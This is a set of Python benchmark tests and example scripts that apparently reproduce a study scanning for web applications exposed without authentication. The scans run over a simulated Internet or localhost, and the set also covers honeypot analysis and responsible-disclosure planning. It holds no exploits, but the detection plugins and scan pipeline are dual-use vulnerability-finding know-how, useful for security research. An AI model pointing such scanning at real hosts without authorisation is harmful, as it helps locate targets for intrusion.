from repro.apps.catalog import scanned_ports
from repro.core.fingerprint.knowledge_base import build_default_knowledge_base
from repro.core.pipeline import ScanPipeline
from repro.net.population import PopulationModel, generate_internet
from repro.net.transport import InMemoryTransport


@pytest.fixture(scope="module")
def fp_world():
    internet, _geo, _census = generate_internet(
        PopulationModel(awe_rate=0.004, vuln_rate=0.1, background_rate=1e-7)
    )
    kb = build_default_knowledge_base()
    return internet, kb


def _coverage(internet, kb, use_disclosure, use_hashes):
    from repro.core.fingerprint.fingerprinter import VersionFingerprinter
    from repro.core.prefilter import Prefilter
    from repro.core.masscan import Masscan

    transport = InMemoryTransport(internet)
    scan = Masscan(transport, scanned_ports()).scan(
        internet.populated_addresses()
    )
    findings = Prefilter(transport).run(scan)
    fingerprinter = VersionFingerprinter(
        transport, kb, use_disclosure=use_disclosure, use_hashes=use_hashes
    )
    identified = 0
    for finding in findings:
        result = fingerprinter.fingerprint(
            finding.ip, finding.port, finding.scheme, finding.candidates
        )
        if result is not None:
            identified += 1
    return identified, len(findings), transport.stats.http_requests


def test_disclosure_only(benchmark, fp_world):
    internet, kb = fp_world
    identified, total, requests = benchmark.pedantic(
        _coverage, args=(internet, kb, True, False), rounds=1, iterations=1
    )
    print(f"\ndisclosure only: {identified}/{total} identified, {requests} requests")
    assert identified / total > 0.5  # the 13 disclosing apps dominate


def test_hashes_only(benchmark, fp_world):
    internet, kb = fp_world
    identified, total, requests = benchmark.pedantic(
        _coverage, args=(internet, kb, False, True), rounds=1, iterations=1
    )
    print(f"\nhash KB only: {identified}/{total} identified, {requests} requests")
    assert identified / total > 0.5


def test_combined_beats_either(benchmark, fp_world):
    internet, kb = fp_world
    disclosure, total, _ = _coverage(internet, kb, True, False)
    hashes, _, _ = _coverage(internet, kb, False, True)
    combined, _, _ = benchmark.pedantic(
        _coverage, args=(internet, kb, True, True), rounds=1, iterations=1
    )
    print(f"\ndisclosure {disclosure}, hashes {hashes}, combined {combined} of {total}")
    assert combined >= max(disclosure, hashes)
    assert combined / total > 0.9
