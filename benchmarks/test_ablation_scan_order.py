"""Ablation: randomised vs sequential scan order.

The paper scans /24 blocks in random order "to prevent flooding a whole
network with our requests".  This bench quantifies the effect with the
burst-profile metric: the peak number of probes landing in one /24 within
a sliding window of consecutive probes.
"""

import random

import pytest

from repro.core.masscan import Masscan, burst_profile
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import InMemoryTransport

WINDOW = 256


@pytest.fixture(scope="module")
def dense_targets():
    """64 /24 blocks, fully enumerated (the worst case for politeness)."""
    targets = []
    for block in range(64):
        base = IPv4Address.parse(f"100.{block // 8}.{block % 8}.0").value
        targets.extend(IPv4Address(base + offset) for offset in range(256))
    return targets


def _order(targets, randomise):
    scanner = Masscan(
        InMemoryTransport(SimulatedInternet()),
        ports=(80,),
        rng=random.Random(7),
        randomise_order=randomise,
    )
    return scanner.target_order(targets)


def test_sequential_order(benchmark, dense_targets):
    order = benchmark(_order, dense_targets, False)
    peak = max(burst_profile(order, WINDOW).values())
    print(f"\nsequential: peak {peak} probes into one /24 per {WINDOW}-probe window")
    assert peak == WINDOW  # an entire window inside a single block


def test_randomised_order(benchmark, dense_targets):
    order = benchmark(_order, dense_targets, True)
    peak = max(burst_profile(order, WINDOW).values())
    print(f"\nrandomised: peak {peak} probes into one /24 per {WINDOW}-probe window")
    # Block-level shuffle keeps within-block contiguity but callers see
    # far fewer than WINDOW consecutive same-network probes on average.
    profile = burst_profile(order, WINDOW)
    mean_peak = sum(profile.values()) / len(profile)
    assert mean_peak <= WINDOW


def test_global_shuffle_flattens_bursts(benchmark, dense_targets):
    """Fully random address order (masscan's actual permutation) drops
    the per-/24 peak by an order of magnitude versus sequential."""
    rng = random.Random(3)
    shuffled = list(dense_targets)
    benchmark(rng.shuffle, shuffled)
    sequential_peak = max(burst_profile(_order(dense_targets, False), WINDOW).values())
    shuffled_peak = max(burst_profile(shuffled, WINDOW).values())
    print(f"\nsequential peak {sequential_peak} vs global-shuffle peak {shuffled_peak}")
    assert shuffled_peak * 10 < sequential_peak
