"""E-F2: regenerate Figure 2 (longevity of the detected MAVs).

The four-week observer study (re-scans on a fixed cadence) runs once in
the session fixture; this bench times the survival-curve extraction and
checks the published shape: ~10% gone in six hours, over two thirds still
vulnerable at two weeks, over half at four, fixes rare and CMS-driven,
offline dominating the exits.
"""

from repro.analysis.longevity import HostStatus
from repro.util.clock import DAY, HOUR, WEEK


def _extract_all_series(observer_study):
    figure = observer_study.figure2()
    return {
        "all": {
            status: observer_study.log.series(status) for status in HostStatus
        },
        "by_default": {
            status: figure.curves_by_default(status) for status in HostStatus
        },
    }


def test_figure2(benchmark, observer_study):
    series = benchmark(_extract_all_series, observer_study)
    print()
    print(observer_study.figure2().render())

    vulnerable = series["all"][HostStatus.VULNERABLE]
    assert vulnerable.at(0) > 0.99
    assert 0.82 < vulnerable.at(6 * HOUR) < 0.96   # ~10% gone in 6h
    assert 0.55 < vulnerable.at(2 * WEEK) < 0.80   # over two thirds
    assert 0.45 < vulnerable.at(4 * WEEK) < 0.70   # over half

    fixed = series["all"][HostStatus.FIXED]
    offline = series["all"][HostStatus.OFFLINE]
    assert fixed.final() < 0.10                     # paper: 3.2%
    assert 0.30 < offline.final() < 0.55            # paper: 43.2%
    assert offline.final() > 4 * fixed.final()

    # Insecure-by-default instances disappear faster on day one.
    by_default = series["by_default"][HostStatus.VULNERABLE]
    insecure = dict(by_default["insecure-by-default"])
    modified = dict(by_default["explicitly-modified"])
    day1 = next(t for t in sorted(insecure) if t >= 1 * DAY)
    assert insecure[day1] <= modified[day1]

    # Category contrast: notebooks stay vulnerable longer than CI.
    by_category = observer_study.figure2().curves_by_category(
        HostStatus.VULNERABLE
    )
    nb_final = by_category["NB"][-1][1]
    ci_final = by_category["CI"][-1][1]
    assert nb_final > ci_final

    # Per-app longevity ordering: "Jenkins and WordPress were on average
    # vulnerable for the shortest time while Joomla and Drupal remained
    # vulnerable for the longest."
    durations = observer_study.log.mean_vulnerable_duration_by_app()
    assert durations["joomla"] > durations["jenkins"]
    assert durations["drupal"] > durations["wordpress"]
