"""E-T1: regenerate Table 1 (the manual investigation of 25 apps)."""

from conftest import print_table

from repro.analysis.tables import table1


def test_table1(benchmark):
    table = benchmark(table1)
    print_table(table)

    rows = {row["App"]: row for row in table.as_dicts()}
    assert len(rows) == 25
    # Spot-check the paper's rows.
    assert rows["GoCD"]["Default MAV"] == "yes"
    assert rows["Jenkins"]["Default MAV"] == "< 2.0 (2016)"
    assert rows["Joomla"]["Default MAV"] == "< 3.7.4 (2017)"
    assert rows["Adminer"]["Default MAV"] == "< 4.6.3 (2018)"
    assert rows["Kubernetes"]["Default MAV"] == "no"
    assert rows["Ghost"]["Vuln"] == "-"
    # 18 of 25 in scope.
    in_scope = [r for r in rows.values() if r["Vuln"] != "-"]
    assert len(in_scope) == 18
