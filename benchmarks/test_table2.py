"""E-T2: regenerate Table 2 (open ports and HTTP(S) responses).

The bench scan sweeps the simulated IPv4 population through stage I and
stage II; this bench times the Horvitz-Thompson estimation that scales
the stratified sample back to Internet-wide counts.
"""

from conftest import print_table

from repro.analysis.tables import table2
from repro.apps.catalog import scanned_ports


def test_table2(benchmark, scan_study):
    table = benchmark(
        table2, scan_study.report, scan_study.census, scanned_ports()
    )
    print_table(table)

    rows = {row["Port"]: row for row in table.as_dicts()}
    # Shape checks against the paper's Table 2:
    # 80 and 443 dominate (56.8M / 50.1M opens).
    assert rows[80]["# Open"] > rows[8080]["# Open"]
    assert rows[443]["# Open"] > rows[8080]["# Open"]
    assert 30e6 < rows[80]["# Open"] < 90e6
    assert 30e6 < rows[443]["# Open"] < 80e6
    # port 80 answers mostly HTTP, 443 only HTTPS.
    assert rows[80]["# HTTPS"] == 0
    assert rows[443]["# HTTP"] == 0
    assert rows[80]["# HTTP"] > 0.7 * rows[80]["# Open"]
    # 2375 (Docker) is among the rarest ports.
    assert rows[2375]["# Open"] < rows[6443]["# Open"]
    # 80+443 produce the bulk of all responses (paper: ~85%).
    total = rows["Total"]
    big_two = rows[80]["# HTTP"] + rows[443]["# HTTPS"]
    assert big_two / (total["# HTTP"] + total["# HTTPS"]) > 0.7
