"""Extension bench (§6.2): virtual-host under-counting.

Measures the paper's "our scanning results should be seen as a lower
bound" by comparing the IP-only scan with a domain-aware scan on a
shared-hosting population.
"""

from repro.experiments.vhosts import VhostStudyConfig, run_vhost_study


def test_vhost_undercount(benchmark):
    result = benchmark.pedantic(
        run_vhost_study,
        args=(VhostStudyConfig(shared_hosts=150, tenants_per_host=8),),
        rounds=1,
        iterations=1,
    )
    print()
    print(result.table().render())
    print(f"undercount factor: {result.undercount_factor:.1f}x")

    # The IP scan sees only default sites: recall roughly 1/(tenants+1).
    assert result.ip_scan_found < result.true_vulnerable_sites
    assert result.undercount_factor > 3
    # A domain list recovers everything the IP scan missed.
    assert result.domain_scan_found == result.true_vulnerable_sites
