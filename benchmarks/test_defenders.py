"""E-S5: regenerate the §5 defender-awareness result."""

from conftest import print_table

from repro.experiments.defenders import run_defender_study
from repro.util.clock import HOUR


def test_defender_awareness(benchmark):
    study = benchmark.pedantic(run_defender_study, rounds=1, iterations=1)
    print_table(study.table())

    detections = study.detections()
    # Paper: scanners detect 5 and 3 of the 18 MAVs.
    assert len(detections["Scanner 1"]) == 5
    assert len(detections["Scanner 2"]) == 3
    # Overlap limited to Docker and Consul.
    assert detections["Scanner 1"] & detections["Scanner 2"] == {
        "consul", "docker",
    }
    # Scanner 2's scan takes hours -- too slow against fast exploitation.
    assert study.runs["Scanner 2"].duration_seconds > 3 * HOUR
