"""Ablation: what does the stage-II prefilter buy?

The paper's pipeline inserts a cheap signature match between the port
scan and the expensive Tsunami plugins, so stage III only runs against
plausible candidates.  This bench runs the same sweep with the prefilter
disabled (every open port goes to every plugin) and compares plugin
invocations and request volume.
"""

import pytest

from repro.apps.catalog import scanned_ports
from repro.core.pipeline import ScanPipeline
from repro.net.population import PopulationModel, generate_internet
from repro.net.transport import InMemoryTransport


@pytest.fixture(scope="module")
def ablation_internet():
    internet, _geo, _census = generate_internet(
        PopulationModel(awe_rate=0.002, vuln_rate=0.05, background_rate=2e-6)
    )
    return internet


def _sweep(internet, use_prefilter: bool):
    transport = InMemoryTransport(internet)
    pipeline = ScanPipeline(
        transport, scanned_ports(), fingerprint=False, use_prefilter=use_prefilter
    )
    report = pipeline.run(internet.populated_addresses())
    return report, pipeline, transport


def test_with_prefilter(benchmark, ablation_internet):
    report, pipeline, transport = benchmark.pedantic(
        _sweep, args=(ablation_internet, True), rounds=1, iterations=1
    )
    print(f"\nwith prefilter: {pipeline.engine.stats.plugins_run} plugin runs, "
          f"{transport.stats.http_requests} HTTP requests")
    assert report.vulnerable_ips()


def test_without_prefilter(benchmark, ablation_internet):
    report, pipeline, transport = benchmark.pedantic(
        _sweep, args=(ablation_internet, False), rounds=1, iterations=1
    )
    print(f"\nwithout prefilter: {pipeline.engine.stats.plugins_run} plugin runs, "
          f"{transport.stats.http_requests} HTTP requests")
    assert report.vulnerable_ips()


def test_prefilter_saves_plugin_work(benchmark, ablation_internet):
    """The headline ablation result: stage II slashes stage-III work
    without changing the findings."""
    with_report, with_pipeline, with_transport = benchmark.pedantic(
        _sweep, args=(ablation_internet, True), rounds=1, iterations=1
    )
    without_report, without_pipeline, without_transport = _sweep(
        ablation_internet, False
    )

    found_with = {ip.value for ip in with_report.vulnerable_ips()}
    found_without = {ip.value for ip in without_report.vulnerable_ips()}
    assert found_with == found_without  # same detections...

    runs_with = with_pipeline.engine.stats.plugins_run
    runs_without = without_pipeline.engine.stats.plugins_run
    assert runs_without > 10 * runs_with  # ...at a fraction of the work

    assert with_transport.stats.http_requests < without_transport.stats.http_requests
