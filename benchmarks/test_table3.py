"""E-T3: regenerate Table 3 (AWE prevalence and MAV counts)."""

from conftest import print_table

from repro.analysis.tables import table3
from repro.net.population import PAPER_PREVALENCE


def test_table3(benchmark, scan_study):
    table = benchmark(table3, scan_study.report, scan_study.census)
    print_table(table)

    rows = {row["App"]: row for row in table.as_dicts()}
    # The MAV column reproduces the paper's counts exactly (vuln_rate=1).
    paper = {p.slug: p.mavs for p in PAPER_PREVALENCE}
    assert rows["Docker"]["# MAVs"] == paper["docker"] == 657
    assert rows["Hadoop"]["# MAVs"] == paper["hadoop"] == 556
    assert rows["Nomad"]["# MAVs"] == paper["nomad"] == 729
    assert rows["WordPress"]["# MAVs"] == 345
    assert rows["Polynote"]["# MAVs"] == 8
    assert table.as_dicts()[-1]["# MAVs"] == 4221

    # Host estimates land near the paper's prevalence.
    assert 1.2e6 < rows["WordPress"]["# Hosts"] < 1.8e6
    assert 0.55e6 < rows["Kubernetes"]["# Hosts"] < 0.9e6

    # Who wins: insecure-by-default CM products are majority-vulnerable,
    # CMSes are ~0% (short-lived installers).
    def mav_pct(name):
        return float(str(rows[name]["MAV %"]).rstrip("%"))

    for app in ("Docker", "Hadoop", "Nomad"):
        assert mav_pct(app) > 40, app
    for app in ("WordPress", "Joomla", "Adminer"):
        assert mav_pct(app) < 1, app
    assert mav_pct("Polynote") == 100.0
