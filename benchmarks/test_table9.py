"""E-T9: regenerate Table 9 (the combined summary)."""

from conftest import print_table

from repro.analysis.tables import table9


def test_table9(benchmark, scan_study, honeypot_study, defender_study):
    table = benchmark(
        table9,
        scan_study.report,
        scan_study.census,
        honeypot_study.attacks,
        defender_study.detections(),
    )
    print_table(table)

    rows = {row["App"]: row for row in table.as_dicts()}
    assert len(rows) == 18
    assert rows["Hadoop"]["Attacks"] == 1921
    assert rows["Docker"]["Defend"] == "Scanner 1&Scanner 2"
    assert rows["Consul"]["Defend"] == "Scanner 1&Scanner 2"
    assert rows["Jupyter Lab"]["Defend"] == "none"      # attacked, undetected
    assert rows["Jupyter Lab"]["Attacks"] == 29
    assert rows["GoCD"]["Attacks"] == 0
    # "Defaults are important": every app with >= 5% MAV share (short-
    # lived installers aside) is insecure by default.
    for name, row in rows.items():
        pct = float(str(row["Vulnerable"]).split("(")[1].rstrip("%)"))
        if pct >= 5.0:
            assert row["Default"] == "X", name
