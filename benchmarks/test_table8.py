"""E-T8: regenerate Table 8 (attack-origin autonomous systems)."""

from conftest import print_table

from repro.analysis.tables import table8


def test_table8(benchmark, honeypot_study):
    table = benchmark(table8, honeypot_study.attacks, honeypot_study.geo)
    print_table(table)

    dicts = table.as_dicts()
    providers = [row["Provider"] for row in dicts]
    # Paper: Serverion BV, Gamers Club, DigitalOcean lead.
    assert providers[0] in ("Serverion BV", "Gamers Club")
    assert "Serverion BV" in providers[:3]
    assert "Gamers Club" in providers[:3]
    assert "DigitalOcean" in providers

    by_provider = {row["Provider"]: row for row in dicts}
    # DigitalOcean spreads across many countries; Serverion does not.
    assert by_provider["DigitalOcean"]["# Countries"] >= 3
    assert by_provider["Serverion BV"]["# Countries"] <= 3
