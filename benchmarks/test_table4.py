"""E-T4: regenerate Table 4 (countries/ASes of the vulnerable hosts)."""

from conftest import print_table

from repro.analysis.tables import table4


def test_table4(benchmark, scan_study):
    table = benchmark(
        table4, scan_study.report.vulnerable_ips(), scan_study.geo
    )
    print_table(table)

    dicts = table.as_dicts()
    countries = [row["Country"] for row in dicts[:5]]
    # Paper: US (2104) then China (1000) lead by a wide margin.
    assert countries[0] == "United States"
    assert countries[1] == "China"
    counts = [row["Hosts"] for row in dicts[:2]]
    assert counts[0] > 1.5 * counts[1]

    providers = [row["Provider"] for row in dicts[:5] if row["Provider"]]
    assert "Amazon EC2" in providers
    assert "Alibaba" in providers

    hosting = float(str(dicts[-1]["Hosts"]).rstrip("%"))
    assert 55 <= hosting <= 75  # paper: ~64% dedicated hosting
