"""E-T6: regenerate Table 6 (time until compromise)."""

from conftest import print_table

from repro.analysis.tables import table6


def test_table6(benchmark, honeypot_study):
    table = benchmark(table6, honeypot_study.attacks)
    print_table(table)

    rows = {row["Application"]: row for row in table.as_dicts()}
    # First-compromise times (hours), matching Table 6.
    assert rows["Hadoop"]["First"] < 1.0            # paper: 0.8
    assert 2.5 <= rows["WordPress"]["First"] <= 3.2  # paper: 2.8
    assert 6.0 <= rows["Docker"]["First"] <= 7.5     # paper: 6.7
    assert 40 <= rows["Jupyter Notebook"]["First"] <= 55   # paper: 48.0
    assert 120 <= rows["Jupyter Lab"]["First"] <= 145      # paper: 133.7
    assert 160 <= rows["Jenkins"]["First"] <= 185          # paper: 172.4
    assert rows["Grav"]["First"] > 330                     # paper: 355.1

    # Hadoop is under near-constant attack: average gap ~20 minutes.
    assert rows["Hadoop"]["Average"] < 0.8
    # Docker and the notebooks see attacks at least every other day.
    assert rows["Docker"]["Average"] < 48
    assert rows["Jupyter Notebook"]["Average"] < 48
