"""Extension bench (§6.2): MAV recall under injected packet loss.

Puts a number on the false-negative component of the paper's lower-bound
caveat: hosts that were "unresponsive [or] temporarily unavailable".
"""

from repro.experiments.packet_loss import run_packet_loss_study


def test_packet_loss_recall(benchmark):
    result = benchmark.pedantic(run_packet_loss_study, rounds=1, iterations=1)
    print()
    print(result.table().render())

    by_rate = {point.loss_rate: point.recall for point in result.points}
    assert by_rate[0.0] == 1.0
    assert by_rate[0.01] > 0.9          # light loss barely matters
    assert by_rate[0.25] < by_rate[0.05]  # heavy loss clearly does
    # Recall decays monotonically with loss.
    recalls = [point.recall for point in result.points]
    assert recalls == sorted(recalls, reverse=True)
