"""Throughput benchmarks of the scanning pipeline itself.

Not a paper table, but the substrate every table depends on: how fast the
three stages sweep a population, and what each stage costs.
"""

import pytest

from repro.apps.catalog import scanned_ports
from repro.core.pipeline import ScanPipeline
from repro.experiments.config import StudyConfig
from repro.net.population import PopulationModel, generate_internet
from repro.net.transport import InMemoryTransport


@pytest.fixture(scope="module")
def midsize_internet():
    internet, _geo, _census = generate_internet(
        PopulationModel(awe_rate=0.002, vuln_rate=0.1, background_rate=1e-6)
    )
    return internet


def test_full_pipeline_sweep(benchmark, midsize_internet):
    def sweep():
        transport = InMemoryTransport(midsize_internet)
        pipeline = ScanPipeline(transport, scanned_ports(), fingerprint=True)
        return pipeline.run(midsize_internet.populated_addresses())

    report = benchmark.pedantic(sweep, rounds=1, iterations=1)
    assert report.total_awe_hosts() > 100
    assert len(report.vulnerable_ips()) > 100


def test_stage1_port_scan_only(benchmark, midsize_internet):
    from repro.core.masscan import Masscan

    addresses = midsize_internet.populated_addresses()

    def stage1():
        scanner = Masscan(InMemoryTransport(midsize_internet), scanned_ports())
        return scanner.scan(addresses)

    result = benchmark(stage1)
    assert result.open_ports


def test_rescan_throughput(benchmark, midsize_internet):
    """The observer's three-hourly sweep must be cheap per host."""
    transport = InMemoryTransport(midsize_internet)
    pipeline = ScanPipeline(transport, scanned_ports(), fingerprint=False)
    report = pipeline.run(midsize_internet.populated_addresses())
    vulnerable = report.vulnerable_ips()
    ports = {ip.value: report.port_scan.ports_of(ip) for ip in vulnerable}

    rescan = benchmark(pipeline.rescan_hosts, vulnerable, ports)
    assert len(rescan.vulnerable_ips()) == len(vulnerable)
