"""E-F1: regenerate Figure 1 (release dates, secure vs vulnerable)."""

from repro.analysis.figures import Figure1
from repro.analysis.versions import (
    old_version_mav_share,
    to_versioned,
)


def test_figure1(benchmark, scan_study):
    observations = to_versioned(scan_study.report.observations())

    figure = benchmark(Figure1.build, observations)
    print()
    print(figure.render())

    # Vulnerable skews old, secure skews new (paper's headline contrast).
    def mean_bin_index(counts):
        order = ["<2016", "2016", "2017", "2018", "2019", "2020", "2021"]
        total = sum(counts.values())
        return sum(order.index(k) * v for k, v in counts.items()) / total

    assert mean_bin_index(figure.overall_vulnerable) < mean_bin_index(
        figure.overall_secure
    )

    # Jupyter Notebook: pre-4.3 releases hold ~80% of its MAVs.
    share = old_version_mav_share(observations, "jupyter-notebook", "4.3")
    assert 0.7 < share < 0.9

    # Hadoop: vulnerable instances spread over the whole release range.
    hadoop_vulnerable = figure.detail["hadoop"]["vulnerable"]
    populated_bins = sum(1 for count in hadoop_vulnerable.values() if count > 0)
    assert populated_bins >= 6
