#!/usr/bin/env python3
"""Extend the scanner: write a Tsunami plugin for your own application.

Tsunami's point (and this reproduction's) is the extensible plugin
system: every MAV check is a small, self-contained plugin.  This example
defines a brand-new emulated application ("MlFlowBoard", an experiment
tracker with no authentication), writes a detection plugin for it, and
runs the engine with the extended plugin set over a mixed population.

Run:  python examples/custom_plugin.py
"""

from repro.apps.base import AppCategory, VulnKind, WebApplication, html_page, route
from repro.apps.catalog import create_instance
from repro.apps.base import AppInstance
from repro.core.tsunami.engine import TsunamiEngine
from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext
from repro.core.tsunami.plugins import ALL_PLUGINS
from repro.net.host import Host, Service
from repro.net.http import HttpRequest, HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import InMemoryTransport


class MlFlowBoard(WebApplication):
    """A (fictional) experiment tracker that can run training jobs."""

    name = "MlFlowBoard"
    slug = "mlflowboard"
    category = AppCategory.NB
    vuln_kind = VulnKind.API
    default_ports = (5000,)

    def validate_config(self) -> None:
        self.config.setdefault("auth_enabled", False)  # insecure by default!

    def is_vulnerable(self) -> bool:
        return not self.cfg("auth_enabled")

    def secure(self) -> None:
        self.config["auth_enabled"] = True

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(html_page("MlFlowBoard", "<div>Experiments</div>"))

    @route("GET", "/api/2.0/jobs/list")
    def list_jobs(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.unauthorized("MlFlowBoard")
        return HttpResponse.json('{"jobs": [{"id": 1, "cmd": "train.py"}]}')


class MlFlowBoardPlugin(MavDetectionPlugin):
    """Detection: the job-list API answers without credentials."""

    slug = "mlflowboard"
    title = "MlFlowBoard job API exposed without authentication"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        jobs = context.fetch_json("/api/2.0/jobs/list")
        if not isinstance(jobs, dict) or "jobs" not in jobs:
            return None
        return self.report(context, f"{len(jobs['jobs'])} jobs listable anonymously")


def main() -> None:
    internet = SimulatedInternet()

    def add(ip: str, app, port: int) -> IPv4Address:
        address = IPv4Address.parse(ip)
        host = Host(address)
        host.add_service(Service(port, app=AppInstance(app, port)))
        internet.add_host(host)
        return address

    targets = [
        (add("100.1.0.1", MlFlowBoard("1.0"), 5000), 5000, ("mlflowboard",)),
        (add("100.1.0.2", MlFlowBoard("1.0", {"auth_enabled": True}), 5000),
         5000, ("mlflowboard",)),
        (add("100.1.0.3", create_instance("zeppelin", vulnerable=True), 8080),
         8080, ("zeppelin",)),
    ]

    engine = TsunamiEngine(
        InMemoryTransport(internet),
        plugins=ALL_PLUGINS + (MlFlowBoardPlugin(),),
    )
    print(f"engine loaded {len(engine.plugins)} plugins "
          "(18 built-in + 1 custom)\n")
    for ip, port, candidates in targets:
        reports = engine.scan_target(ip, port, Scheme.HTTP, candidates)
        verdict = reports[0].title if reports else "no MAV detected"
        print(f"{ip}:{port}  ->  {verdict}")


if __name__ == "__main__":
    main()
