#!/usr/bin/env python3
"""Plan responsible disclosure for a scan's findings (paper §3.2).

After an Internet-wide scan you hold thousands of vulnerable IPs and no
email addresses.  The paper's workflow: batch cloud-provider IPs into
per-provider reports, probe everyone else over HTTPS and mail
``security@`` the certificate's domain, and accept that the rest is
unreachable.  This example runs a scan and prints the disclosure plan.

Run:  python examples/responsible_disclosure.py
"""

from repro import PopulationModel, ScanPipeline, InMemoryTransport, generate_internet
from repro.apps.catalog import scanned_ports
from repro.notify import DisclosureChannel, DisclosurePlanner


def main() -> None:
    internet, geo, _census = generate_internet(
        PopulationModel(awe_rate=0.003, vuln_rate=0.1, background_rate=2e-7)
    )
    transport = InMemoryTransport(internet)
    pipeline = ScanPipeline(transport, scanned_ports(), fingerprint=False)
    report = pipeline.run(internet.populated_addresses())

    findings = []
    for finding in report.findings.values():
        for slug in finding.vulnerable_slugs:
            observation = finding.observations[slug]
            findings.append((finding.ip, slug, observation.port))
    print(f"scan found {len(findings)} vulnerable deployments\n")

    planner = DisclosurePlanner(transport=transport, geo=geo)
    plan = planner.plan(findings)

    print(plan.summary_table().render())
    print(f"\nreachable through a responsible channel: {plan.coverage():.0%}\n")

    print("Cloud-provider batches (one report per provider):")
    for provider, batch in sorted(
        plan.provider_batches().items(), key=lambda kv: -len(kv[1])
    ):
        apps = sorted({n.slug for n in batch})
        print(f"  {provider:<16} {len(batch):>4} assets  ({', '.join(apps)})")

    emails = plan.by_channel(DisclosureChannel.SECURITY_EMAIL)
    print(f"\nDirect security@ notifications ({len(emails)} hosts), first five:")
    for notification in emails[:5]:
        print(f"  {notification.recipient:<40} {notification.slug} on {notification.ip}")


if __name__ == "__main__":
    main()
