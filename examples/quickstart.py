#!/usr/bin/env python3
"""Quickstart: sweep a simulated Internet for missing-authentication
vulnerabilities and print the headline results.

This runs the paper's full three-stage pipeline (masscan-style port scan,
signature prefilter, Tsunami-style MAV verification plugins, version
fingerprinting) against a small calibrated population, then prints the
prevalence table and where the vulnerable hosts live.

Run:  python examples/quickstart.py
"""

from repro import PopulationModel, ScanPipeline, InMemoryTransport, generate_internet
from repro.apps.catalog import scanned_ports
from repro.analysis.tables import table3, table4


def main() -> None:
    # A 2%-of-the-paper population: ~85 vulnerable hosts plus a sampled
    # secure population and background noise.
    model = PopulationModel(awe_rate=0.005, vuln_rate=0.02, background_rate=5e-7)
    internet, geo, census = generate_internet(model)
    print(f"generated {len(internet):,} hosts "
          f"({len(internet.true_vulnerable_hosts())} secretly vulnerable)")

    # The pipeline only sees the transport: open ports and HTTP bodies.
    transport = InMemoryTransport(internet)
    pipeline = ScanPipeline(transport, scanned_ports(), fingerprint=True)
    report = pipeline.run(internet.populated_addresses())

    found = report.vulnerable_ips()
    truth = internet.true_vulnerable_hosts()
    print(f"\npipeline found {len(found)} MAVs "
          f"(ground truth {len(truth)}; "
          f"{transport.stats.http_requests:,} HTTP requests, all GET)")

    print()
    print(table3(report, census).render())
    print()
    print(table4(found, geo).render())

    print("\nMost exposed endpoints right now:")
    for detection in report.detections[:5]:
        print(f"  {detection}")


if __name__ == "__main__":
    main()
