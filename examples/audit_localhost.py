#!/usr/bin/env python3
"""Audit real services on localhost with the same pipeline.

The scanning pipeline is transport-agnostic: here it probes *real TCP
sockets* on 127.0.0.1.  We start two genuine HTTP servers backed by the
application emulators — a Jupyter Notebook misconfigured with an empty
password, and a properly-secured one — and let the Tsunami plugins and
the fingerprinter tell them apart, exactly as they would against the
simulator.

Run:  python examples/audit_localhost.py
"""

from repro.apps.catalog import create_instance
from repro.core.fingerprint.fingerprinter import VersionFingerprinter
from repro.core.fingerprint.knowledge_base import build_default_knowledge_base
from repro.core.prefilter import match_signatures
from repro.core.tsunami.plugin import PluginContext
from repro.core.tsunami.plugins import plugin_for
from repro.net.http import Scheme
from repro.net.server import LocalAppServer, SocketTransport


def audit(server: LocalAppServer, transport: SocketTransport, kb) -> None:
    ip, port = server.ip, server.port
    print(f"\n--- auditing {ip}:{port} ---")

    if not transport.syn_probe(ip, port):
        print("port closed")
        return

    landing = transport.get(ip, port, "/")
    candidates = match_signatures(landing.body)
    print(f"stage II candidates: {candidates or '(none)'}")

    fingerprinter = VersionFingerprinter(transport, kb)
    fingerprint = fingerprinter.fingerprint(ip, port, Scheme.HTTP, candidates)
    if fingerprint:
        print(f"fingerprint: {fingerprint.slug} v{fingerprint.version} "
              f"(via {fingerprint.method.value})")

    for slug in candidates:
        plugin = plugin_for(slug)
        if plugin is None:
            continue
        report = plugin.detect(PluginContext(transport, ip, port, Scheme.HTTP))
        if report is None:
            print(f"{slug}: no missing-authentication vulnerability")
        else:
            print(f"!! VULNERABLE: {report.title}")
            print(f"   evidence: {report.details}")


def main() -> None:
    kb = build_default_knowledge_base()
    transport = SocketTransport()  # refuses anything but 127.0.0.1

    # --NotebookApp.password='' : the misconfiguration from the paper.
    exposed = create_instance("jupyter-notebook", vulnerable=True)
    hardened = create_instance("jupyter-notebook")

    with LocalAppServer(exposed) as bad, LocalAppServer(hardened) as good:
        print(f"serving a misconfigured notebook on 127.0.0.1:{bad.port}")
        print(f"serving a token-protected notebook on 127.0.0.1:{good.port}")
        audit(bad, transport, kb)
        audit(good, transport, kb)


if __name__ == "__main__":
    main()
