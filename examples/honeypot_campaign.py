#!/usr/bin/env python3
"""Replay the four-week honeypot study and analyse the attackers.

Deploys the 18 vulnerable applications behind Packetbeat/Auditbeat-style
monitoring, replays the calibrated attack schedule (2,195 attacks from a
heavy-tailed attacker population, Kinsing-style campaigns included), and
prints the attack tables, the timeline, and the cross-application
attacker map.

Run:  python examples/honeypot_campaign.py
"""

from repro import StudyConfig, run_honeypot_study
from repro.util.clock import HOUR


def main() -> None:
    study = run_honeypot_study(StudyConfig.default())

    print(study.table5().render())
    print()
    print(study.table6().render())
    print()
    print(study.figure3().render())
    print()
    print(study.figure4().render())

    print("\nAttacker concentration:")
    for top in (1, 5, 10):
        share = study.top_share(top)
        print(f"  top {top:>2} attackers cause {share:5.1%} of all attacks")

    first = min(a.start for a in study.attacks)
    print(f"\nfirst compromise {first / HOUR:.1f}h after exposure "
          f"({study.fleet.total_restores()} snapshot restores during the study)")

    # The central log is tamper-evident; prove the chain is intact.
    study.fleet.log.verify_integrity()
    print(f"central log intact: {len(study.fleet.log):,} events, hash chain verified")


if __name__ == "__main__":
    main()
