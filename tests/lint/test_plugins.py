"""Plugin-contract auditor: the real tree is clean, violations are caught."""

from __future__ import annotations

from pathlib import Path

import pytest

from repro.lint.plugins import PluginContractAuditor, extract_registered_names

REPRO_ROOT = Path(__file__).resolve().parents[2] / "src" / "repro"

KNOWN = frozenset({"good"})


